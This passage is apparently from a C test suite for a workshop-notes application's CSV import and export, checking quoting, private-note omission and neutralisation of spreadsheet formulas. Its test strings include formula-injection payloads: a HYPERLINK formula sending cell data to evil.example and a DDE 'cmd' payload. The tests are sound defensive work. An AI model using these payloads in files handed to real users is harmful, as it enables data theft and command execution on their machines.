  g_assert_cmpmem (data, size, g_bytes_get_data (second, NULL), g_bytes_get_size (second));
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_ideas (copy)), ==,
                    g_list_model_get_n_items (cg_workshop_get_ideas (source)));
  return copy;
}

static void
test_round_trip (void)
{
  g_autoptr(CgWorkshop) source = make_workshop ();
  g_autoptr(CgWorkshop) copy = NULL;

  import_ok (source,
             HEADER "\n"
             "\"June, follow-up\",\"Peer roles\",Staff,question,\"Who pays, and how?\",2,,,\n"
             "March workshop,\"Say \"\"yes\"\"\",Carers,story,\"Line one\nLine two\",,yes,,\n"
             ",,,development,  spaces around  ,,,yes,parked\n"
             ",Hope,,strength,\"\"\"Quoted\"\" start\",,,,closed\n");

  copy = copy_through_csv (source);
  g_assert_cmpstr (cg_idea_get_text (get_idea (copy, 3)), ==, "  spaces around  ");
  g_assert_cmpstr (cg_theme_get_name (cg_idea_get_theme (get_idea (copy, 2))), ==,
                   "Say \"yes\"");
}

/* The bundled sample, every kind of note in it, survives export, import and export. */
static void
test_round_trip_sample (void)
{
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "data", "sample.cgw", NULL);
  g_autofree char *contents = NULL;
  g_autoptr(CgWorkshop) sample = NULL;
  g_autoptr(CgWorkshop) copy = NULL;
  g_autoptr(GError) error = NULL;
  gsize length;

  g_assert_true (g_file_get_contents (path, &contents, &length, &error));
  sample = cg_workshop_load_from_data (contents, length, "sample.cgw", &error);
  g_assert_no_error (error);

  copy = copy_through_csv (sample);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_themes (copy)), ==, 4);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_voices (copy)), ==, 4);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_events (copy)), ==, 2);
}

/* The cells of CSV as RFC 4180 reads them: a GPtrArray of rows, each a GStrv. */
static GPtrArray *
split_csv (const char *csv)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);
  g_autoptr(GPtrArray) row = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GString) cell = g_string_new (NULL);
  const char *p = csv;

  while (*p != '\0')
    {
      if (*p == '"')
        {
          for (p++; *p != '\0' && !(*p == '"' && p[1] != '"'); p++)
            {
              if (*p == '"')
                p++;
              g_string_append_c (cell, *p);
            }
          g_assert_cmpint (*p, ==, '"');
          p++;
        }
      while (*p != '\0' && *p != ',' && *p != '\r')
        g_string_append_c (cell, *p++);

      g_ptr_array_add (row, g_strdup (cell->str));
      g_string_truncate (cell, 0);
      if (*p == ',')
        p++;
      else
        {
          g_assert_true (g_str_has_prefix (p, "\r\n"));
          p += 2;
          g_ptr_array_add (row, NULL);
          g_ptr_array_add (rows, g_ptr_array_free (g_steal_pointer (&row), FALSE));
          row = g_ptr_array_new_with_free_func (g_free);
        }
    }
  return rows;
}

/* Texts a spreadsheet would run as formulas, texts that only look like the neutralised ones, and
 * texts around them. None is blank, since a blank text is no note at all. */
static const char * const tricky_texts[] = {
  "=1+1",
  "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
  "=cmd|' /C calc'!A0",
  "+44 1382 000000",
  "-5 degrees in the waiting room",
  "- a list, with a comma",
  "@SUM(A1:A9)",
  "\tindented with a tab",
  "\t=1+1",
  "\r=1+1",
  "\r\n-in a new line",
  "'=1+1",
  "''=1+1",
  "'''+already three",
  "'\tapostrophe and tab",
  "'\r=apostrophe and carriage return",
  "''\r\n@",
  "'-",
  "'",
  "''",
  "'plain apostrophe",
  "' =space before the sign",
  " =space first",
  "\n=line first",
  "a=b",
  "=",
  "+",
  "-",
  "@",
  "\"=quoted\"",
  "'\"=quoted\" after an apostrophe",
  "=\"with, a comma\"\nand a second line",
  "\xef\xbc\x9d full-width equals",
  "\xef\xbb\xbfmark first",
  "caf\xc3\xa9 = fine",
};

static gboolean
starts_like_formula (const char *cell)
{
  return cell[0] != '\0' && strchr ("=+-@\t\r", cell[0]) != NULL;
}

/* Every text, as a note, an event, a theme and a voice, comes back the same through CSV, and no
 * cell of the CSV starts as a formula would. */
static void
test_round_trip_formulas (void)
{
  g_autoptr(CgWorkshop) source = cg_workshop_new ("Formulas");
  g_autoptr(CgWorkshop) copy = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autofree char *csv = NULL;
  guint n = G_N_ELEMENTS (tricky_texts);

  for (guint i = 0; i < n; i++)
    {
      /* Each name on another note, so that every row mixes them. */
      g_autoptr(CgEvent) event = cg_event_new (tricky_texts[(i + 1) % n]);
      g_autoptr(CgTheme) theme = cg_theme_new (tricky_texts[(i + 2) % n], "#332288");
      g_autoptr(CgVoice) voice = cg_voice_new (tricky_texts[(i + 3) % n], "#e69f00");
      g_autoptr(CgIdea) idea = cg_idea_new (tricky_texts[i]);

      cg_workshop_add (source, event);
      cg_workshop_add (source, theme);
      cg_workshop_add (source, voice);
      cg_idea_set_event (idea, event);
      cg_idea_set_theme (idea, theme);
      cg_idea_set_voice (idea, voice);
      cg_workshop_add (source, idea);
    }

  csv = export_string (source);
  rows = split_csv (csv);
  g_assert_cmpuint (rows->len, ==, n + 1);
  for (guint r = 0; r < rows->len; r++)
    {
      char **cells = g_ptr_array_index (rows, r);

      g_assert_cmpuint (g_strv_length (cells), ==, 9);
      for (guint c = 0; cells[c] != NULL; c++)
        {
          g_test_message ("row %u, cell %u: %s", r, c, cells[c]);
          g_assert_false (starts_like_formula (cells[c]));
        }
    }

  copy = copy_through_csv (source);
  for (guint i = 0; i < n; i++)
    {
      CgIdea *original = get_idea (source, i);
      CgIdea *idea = get_idea (copy, i);

      g_test_message ("text %u", i);
      g_assert_cmpstr (cg_idea_get_text (idea), ==, cg_idea_get_text (original));
      g_assert_cmpstr (cg_event_get_title (cg_idea_get_event (idea)), ==,
                       cg_event_get_title (cg_idea_get_event (original)));
      g_assert_cmpstr (cg_theme_get_name (cg_idea_get_theme (idea)), ==,
                       cg_theme_get_name (cg_idea_get_theme (original)));
      g_assert_cmpstr (cg_voice_get_name (cg_idea_get_voice (idea)), ==,
                       cg_voice_get_name (cg_idea_get_voice (original)));
    }
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_events (copy)), ==, n);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_themes (copy)), ==, n);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_voices (copy)), ==, n);
}

/* The exact cells: one apostrophe more before a formula start, nothing added elsewhere. */
static void
test_export_formulas (void)
{
  static const struct { const char *text; const char *cell; } cases[] = {
    { "=1+1", "'=1+1" },
    { "=HYPERLINK(\"http://x.example\")", "\"'=HYPERLINK(\"\"http://x.example\"\")\"" },
    { "+44", "'+44" },
    { "-5", "'-5" },
    { "@x", "'@x" },
    { "\tx", "'\tx" },
    { "'=x", "''=x" },
    { "'''@x", "''''@x" },
    { "'x", "'x" },
    { " =x", " =x" },
    { "a-b", "a-b" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(CgWorkshop) workshop = cg_workshop_new ("Cells");
      g_autoptr(CgIdea) idea = cg_idea_new (cases[i].text);
      g_autoptr(CgTheme) theme = cg_theme_new (cases[i].text, "#332288");
      g_autofree char *csv = NULL;
      g_autofree char *expected = NULL;

      cg_workshop_add (workshop, theme);
      cg_idea_set_theme (idea, theme);
      cg_workshop_add (workshop, idea);
      csv = export_string (workshop);
      expected = g_strdup_printf (HEADER "\r\n,%s,,idea,%s,0,no,no,open\r\n",
                                  cases[i].cell, cases[i].cell);
      g_assert_cmpstr (csv, ==, expected);
    }
}

/* Import takes one apostrophe away before a formula start, in any column, and only there. */
static void
test_import_formulas (void)
{
  static const struct { const char *cell; const char *text; } cases[] = {
    { "'=1+1", "=1+1" },
    { "''=1+1", "'=1+1" },
    { "'+44", "+44" },
    { "'-5", "-5" },
    { "'@x", "@x" },
    { "'\tx", "\tx" },
    { "\"'\rx\"", "\nx" },
    { "\"''\r\nx\"", "'\nx" },
    { "'x", "'x" },
    { "'", "'" },
    { "' =x", "' =x" },
    { "=1+1", "=1+1" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(CgWorkshop) workshop = cg_workshop_new ("Cells");
      g_autofree char *csv = g_strdup_printf (HEADER "\n%s,%s,%s,idea,%s,,,,\n",
                                              cases[i].cell, cases[i].cell, cases[i].cell,
                                              cases[i].cell);
      CgIdea *idea;

      g_test_message ("case %u", i);
      import_ok (workshop, csv);
      idea = get_idea (workshop, 0);
      g_assert_cmpstr (cg_idea_get_text (idea), ==, cases[i].text);
      g_assert_cmpstr (cg_event_get_title (cg_idea_get_event (idea)), ==, cases[i].text);
      g_assert_cmpstr (cg_theme_get_name (cg_idea_get_theme (idea)), ==, cases[i].text);
      g_assert_cmpstr (cg_voice_get_name (cg_idea_get_voice (idea)), ==, cases[i].text);
    }

  /* A keyword keeps its apostrophe when no formula start follows: it is no keyword then. */
  {
    g_autoptr(CgWorkshop) workshop = cg_workshop_new ("Cells");
    g_autoptr(GError) error = NULL;
    const char *csv = HEADER "\n,,,'idea,Hello,,,,\n";

    g_assert_false (cg_csv_import (workshop, csv, strlen (csv), "ideas.csv", &error));
    g_assert_error (error, CG_IO_ERROR, CG_IO_ERROR_CSV);
    g_assert_true (g_str_has_prefix (error->message, "ideas.csv:2: kind ''idea' is not"));
  }
}

/* Private notes: every row, or none of theirs. */
static void
test_export_private (void)
{
  g_autoptr(CgWorkshop) workshop = cg_workshop_new ("Private");
  g_autoptr(CgEvent) event = cg_event_new ("March");
  g_autoptr(CgTheme) secret_theme = cg_theme_new ("Only on private notes", "#332288");
  g_autoptr(CgIdea) open = cg_idea_new ("Said in the room");
  g_autoptr(CgIdea) secret = cg_idea_new ("Told to the facilitator alone");
  g_autoptr(CgIdea) last = cg_idea_new ("Also said in the room");
  g_autoptr(CgWorkshop) copy = cg_workshop_new ("Copy");
  g_autofree char *with = NULL;
  g_autofree char *without = NULL;

  cg_workshop_add (workshop, event);
  cg_workshop_add (workshop, secret_theme);
  cg_idea_set_event (open, event);
  cg_workshop_add (workshop, open);
  cg_idea_set_event (secret, event);
  cg_idea_set_theme (secret, secret_theme);
  cg_idea_set_private (secret, TRUE);
  cg_idea_set_votes (secret, event, 2);
  cg_workshop_add (workshop, secret);
  cg_workshop_add (workshop, last);

  with = export_string_full (workshop, TRUE);
  g_assert_cmpstr (with, ==,
                   HEADER "\r\n"
                   "March,,,idea,Said in the room,0,no,no,open\r\n"
                   "March,Only on private notes,,idea,Told to the facilitator alone,2,yes,no,"
                   "open\r\n"
                   ",,,idea,Also said in the room,0,no,no,open\r\n");

  without = export_string_full (workshop, FALSE);
  g_assert_cmpstr (without, ==,
                   HEADER "\r\n"
                   "March,,,idea,Said in the room,0,no,no,open\r\n"
                   ",,,idea,Also said in the room,0,no,no,open\r\n");

  /* Left out of the file, not only hidden: it imports as two notes and no theme. */
  import_ok (copy, without);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_ideas (copy)), ==, 2);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_themes (copy)), ==, 0);

  /* The workshop itself is unchanged. */
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_ideas (workshop)), ==, 3);
  g_assert_true (cg_idea_get_private (secret));
}

static void
test_import_data_file (void)
{
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "data", "csv", "spreadsheet.csv",
                                                 NULL);
  g_autoptr(CgWorkshop) workshop = cg_workshop_new ("From a spreadsheet");
  g_autoptr(GError) error = NULL;
  g_autofree char *contents = NULL;
  gsize length;
  CgIdea *idea;

  g_assert_true (g_file_get_contents (path, &contents, &length, &error));
  g_assert_no_error (error);
  g_assert_true (cg_csv_import (workshop, contents, length, "spreadsheet.csv", &error));
  g_assert_no_error (error);

  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_ideas (workshop)), ==, 6);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_events (workshop)), ==, 2);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_themes (workshop)), ==, 3);
  g_assert_cmpuint (g_list_model_get_n_items (cg_workshop_get_voices (workshop)), ==, 4);

  idea = get_idea (workshop, 2);
  g_assert_cmpstr (cg_idea_get_text (idea), ==,
                   "\"You're not a case, you're a person.\"\nSaid by a duty worker, remembered "
                   "for years.");
  g_assert_cmpint (cg_idea_get_kind (idea), ==, CG_IDEA_KIND_STORY);

  idea = get_idea (workshop, 5);
  g_assert_null (cg_idea_get_theme (idea));
  g_assert_true (cg_idea_get_private (idea));
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/io/csv/import/fields", test_import_fields);
  g_test_add_func ("/io/csv/import/defaults", test_import_defaults);
  g_test_add_func ("/io/csv/import/quoting", test_import_quoting);
  g_test_add_func ("/io/csv/import/line-ends", test_import_line_ends);
  g_test_add_func ("/io/csv/import/created-by-name", test_import_created_by_name);
  g_test_add_func ("/io/csv/import/bad-rows", test_import_bad_rows);
  g_test_add_func ("/io/csv/import/misleading", test_import_misleading);
  g_test_add_func ("/io/csv/import/bad-exact-message", test_import_bad_exact_message);
  g_test_add_func ("/io/csv/import/long-values", test_import_long_values);
  g_test_add_func ("/io/csv/import/long-runaway-quote", test_import_long_runaway_quote);
  g_test_add_func ("/io/csv/import/too-many-rows", test_import_too_many_rows);
  g_test_add_func ("/io/csv/import/header-only", test_import_header_only);
  g_test_add_func ("/io/csv/import/undo", test_import_undo);
  g_test_add_func ("/io/csv/import/data-file", test_import_data_file);
  g_test_add_func ("/io/csv/import/formulas", test_import_formulas);
  g_test_add_func ("/io/csv/export/format", test_export_format);
  g_test_add_func ("/io/csv/export/formulas", test_export_formulas);
  g_test_add_func ("/io/csv/export/private", test_export_private);
  g_test_add_func ("/io/csv/round-trip", test_round_trip);
  g_test_add_func ("/io/csv/round-trip-sample", test_round_trip_sample);
  g_test_add_func ("/io/csv/round-trip-formulas", test_round_trip_formulas);

  return g_test_run ();
}
